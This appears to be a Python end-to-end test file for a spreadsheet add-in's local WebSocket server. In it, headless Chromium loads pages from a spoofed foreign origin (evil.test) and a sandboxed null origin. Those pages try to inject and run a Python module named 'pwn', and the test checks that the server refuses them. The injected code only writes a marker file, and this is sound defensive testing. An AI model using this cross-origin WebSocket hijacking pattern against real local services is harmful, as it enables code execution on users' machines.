"""Web pages in a real browser (headless Chromium) against the real master and kernel program:
a page of a foreign origin cannot play the add-in or the IDE, a page of a loopback origin can."""
import contextlib
import html
import http.server
import json
import os
import queue
import shutil
import signal
import subprocess
import threading

import pytest

from e2e_clients import connections, helper_env, kernel_processes
from servers import master_with_log, scaled

CHROMIUM = shutil.which("chromium")
# The attacker's page is reached by a name the browser resolves to another loopback address, so its
# origin is a foreign site's while everything stays on this machine.
ATTACKER_NAME = "evil.test"
ATTACKER_ADDRESS = "127.0.0.2"

# Plays the workbook's add-in: answers the master's state requests with its own modules, waits for
# the kernel's connect work to end ("sync_custom_functions"), then calls a function; or, as an IDE,
# reads what the master shows it. Every attempt reports what it reached.
CLIENT_JS = r"""
function attempt(url, modules, call) {
  return new Promise((resolve) => {
    const seen = { url: url, opened: false, types: [], result: null, close_code: null };
    let ws;
    try { ws = new WebSocket(url); } catch (e) { seen.error = String(e); resolve(seen); return; }
    const done = () => { try { ws.close(); } catch (e) {} resolve(seen); };
    const giveUp = setTimeout(done, __WAIT_MS__);
    const send = (m) => ws.send(JSON.stringify(m));
    const answers = {
      get_modules_request: () => ({ type: "get_modules_response", modules: modules }),
      get_functions_request: () => ({ type: "get_functions_response", functions: [] }),
      get_packages_request: () => ({ type: "get_packages_response", packages: [], python_paths: [] }),
      get_events_request: () => ({ type: "get_events_response" }),
    };
    ws.onopen = () => { seen.opened = true; };
    ws.onclose = (e) => { seen.close_code = e.code; clearTimeout(giveUp); resolve(seen); };
    ws.onmessage = (e) => {
      const m = JSON.parse(e.data);
      seen.types.push(m.type);
      if (answers[m.type]) {
        send(Object.assign(answers[m.type](), { request_id: m.request_id }));
      } else if (m.type === "sync_custom_functions" && call) {
        send(call);
      } else if (m.type === "workbook_list" && !call) {
        seen.result = m.workbooks;
        clearTimeout(giveUp); done();
      }
      const results = m.type === "batch_results" ? m.results : m.type === "function_execution_result" ? [m] : [];
      for (const r of results) {
        if (call && r.request_id === call.request_id) { seen.result = r; clearTimeout(giveUp); done(); }
      }
    };
  });
}
function report(outcome) {
  // Relative: a sandboxed frame's srcdoc resolves it against its parent page's address.
  return fetch("/report", { method: "POST", mode: "no-cors", body: JSON.stringify(outcome) });
}
"""


def page(body, after=""):
    js = CLIENT_JS.replace("__WAIT_MS__", str(int(scaled(30) * 1000)))
    return f"<!doctype html><html><body><script>{js}</script><script>{body}</script>{after}</body></html>"


class Pages(http.server.ThreadingHTTPServer):
    """Serves fixed pages and collects what they POST to /report."""

    def __init__(self, address, files):
        self.files = files
        self.reports = queue.Queue()
        super().__init__((address, 0), PageHandler)

    def next_report(self, timeout):
        try:
            return self.reports.get(timeout=scaled(timeout))
        except queue.Empty:
            pytest.fail(f"no report from the page within {timeout} s")


class PageHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        text = self.server.files.get(self.path)
        body = (text or "not found").encode()
        self.send_response(200 if text else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        data = self.rfile.read(min(int(self.headers.get("Content-Length") or 0), 1 << 20))
        if self.path == "/report":
            self.server.reports.put(json.loads(data))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@contextlib.contextmanager
def serving(address, files):
    server = Pages(address, files)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(scaled(10))


def chromium_argv(profile, url, *extra):
    return [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
            "--no-default-browser-check", f"--user-data-dir={profile}",
            f"--host-resolver-rules=MAP {ATTACKER_NAME} {ATTACKER_ADDRESS}", *extra, url]


@contextlib.contextmanager
def browser(tmp_path, url):
    """Headless Chromium showing url until the block ends."""
    profile = tmp_path / "profile"
    with open(tmp_path / "chromium.log", "wb") as out:
        proc = subprocess.Popen(chromium_argv(profile, url), stdout=out, stderr=subprocess.STDOUT,
                                env=dict(helper_env(), HOME=str(tmp_path)), start_new_session=True)
    try:
        yield proc
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(scaled(15))
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()


@pytest.fixture(scope="module")
def browser_ready(tmp_path_factory):
    """Skips where no headless Chromium can run; it must on the machines the suite is made for."""
    if CHROMIUM is None:
        pytest.skip("chromium is not installed (bash scripts/install-missing.sh chromium)")
    tmp = tmp_path_factory.mktemp("probe")
    try:
        probe = subprocess.run(chromium_argv(tmp / "profile", "data:text/html,<p>ready</p>", "--dump-dom"),
                               capture_output=True, text=True, env=dict(helper_env(), HOME=str(tmp)),
                               timeout=scaled(60))
    except (OSError, subprocess.TimeoutExpired) as e:
        pytest.skip(f"headless chromium cannot run here: {e}")
    if "ready" not in probe.stdout:
        pytest.skip(f"headless chromium cannot run here: exit {probe.returncode}: {probe.stderr[-500:]}")


@pytest.fixture(scope="module")
def master(tmp_path_factory):
    with master_with_log(tmp_path_factory.mktemp("home"), env={"TAVRINO_KERNEL_STANDBY": "0"}) as found:
        yield found


def log_text(log):
    with open(log, errors="replace") as f:
        return f.read()


def test_page_of_a_foreign_origin_cannot_play_addin_or_ide(browser_ready, master, tmp_path):
    port, log = master
    marker = tmp_path / "attacker-ran"
    write = f"open({str(marker)!r}, 'w').write"
    module = f"{write}('imported')\n\ndef go():\n    {write}('ran')\n    return 7\n"
    attack = f"""
    const modules = {json.dumps({"pwn": module})};
    const call = {{ type: "function_execution", module_name: "pwn", function_name: "go", args: [], request_id: "r1" }};
    (async () => {{
      for (const [client, useCall] of [["addin/evil-book", true], ["ide/evil-ide", false]]) {{
        const seen = await attempt("ws://127.0.0.1:{port}/ws/" + client, modules, useCall ? call : null);
        seen.origin = location.origin;
        await report(seen);
      }}
    }})();
    """
    # The same add-in attack from a sandboxed frame, whose origin is "null".
    sandboxed = attack.replace("evil-book", "null-book").replace("evil-ide", "null-ide")
    frame = f'<iframe sandbox="allow-scripts" srcdoc="{html.escape(page(sandboxed), quote=True)}"></iframe>'
    with serving(ATTACKER_ADDRESS, {"/attack.html": page(attack, after=frame)}) as pages:
        origin = f"http://{ATTACKER_NAME}:{pages.server_port}"
        with browser(tmp_path, origin + "/attack.html"):
            reports = [pages.next_report(60) for _ in range(4)]

    by_url = {r["url"].rsplit("/ws/", 1)[1]: r for r in reports}
    assert sorted(by_url) == ["addin/evil-book", "addin/null-book", "ide/evil-ide", "ide/null-ide"]
    assert {by_url["addin/evil-book"]["origin"], by_url["addin/null-book"]["origin"]} == {origin, "null"}
    for seen in reports:
        assert not seen["opened"] and seen["types"] == [] and seen["result"] is None, seen
    # The handshakes reached the master and it refused them, naming the page's origin.
    text = log_text(log)
    for client, page_origin in (("addin/evil-book", origin), ("ide/evil-ide", origin),
                                ("addin/null-book", "null"), ("ide/null-ide", "null")):
        assert text.count(f"Refused WebSocket connection to '/ws/{client}' from origin '{page_origin}'") == 1
        assert f"Client connected: {client}" not in text
    assert not marker.exists()
    seen = json.dumps(connections(port))
    assert not any(name in seen for name in ("evil-book", "evil-ide", "null-book", "null-ide"))
    assert kernel_processes("evil-book") == [] and kernel_processes("null-book") == []


def test_page_of_a_loopback_origin_plays_the_addin(browser_ready, master, tmp_path):
    port, _ = master
    modules = {"calc": "def double(x):\n    return 2 * x\n"}
    script = f"""
    const call = {{ type: "function_execution", module_name: "calc", function_name: "double",
                   args: [{{ type: "Int", value: 21, isSpec: false }}], request_id: "r42" }};
    attempt("ws://127.0.0.1:{port}/ws/addin/page-book?name=PageBook", {json.dumps(modules)}, call)
      .then((seen) => {{ seen.origin = location.origin; return report(seen); }});
    """
    with serving("127.0.0.1", {"/addin.html": page(script)}) as pages:
        with browser(tmp_path, f"http://127.0.0.1:{pages.server_port}/addin.html"):
            seen = pages.next_report(90)
    assert seen["origin"] == f"http://127.0.0.1:{pages.server_port}"
    assert seen["opened"] and seen["types"][:2] == ["ping", "get_modules_request"]
    result = seen["result"]
    assert result and result["status"] == "success", seen
    assert result["result"] == {"type": "Int", "value": 42, "isSpec": False}
